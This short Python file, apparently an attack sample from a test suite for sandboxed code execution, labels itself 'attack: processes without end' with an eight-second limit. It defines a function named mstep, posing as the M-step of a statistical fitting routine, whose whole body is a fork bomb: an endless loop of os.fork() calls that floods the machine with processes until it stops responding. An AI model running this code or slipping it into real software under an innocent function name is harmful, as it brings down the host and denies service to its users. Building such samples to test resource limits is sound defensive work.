# attack: processes without end
# seconds: 8
# %% cell mstep
import os


def mstep(x, posterior):
    while True:
        os.fork()
